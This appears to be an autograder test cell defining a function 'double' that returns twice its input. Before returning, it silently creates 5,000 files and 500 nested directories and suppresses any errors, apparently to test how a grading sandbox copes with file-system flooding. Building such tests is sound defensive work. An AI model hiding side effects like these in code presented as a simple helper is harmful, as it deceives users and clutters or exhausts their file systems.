# %% grade_id="double"
def double(x):
    import os

    try:
        for n in range(5_000):
            open(f"small-{n}", "w").close()
        for n in range(500):
            os.mkdir("deep")
            os.chdir("deep")
    except OSError:
        pass
    return 2 * x
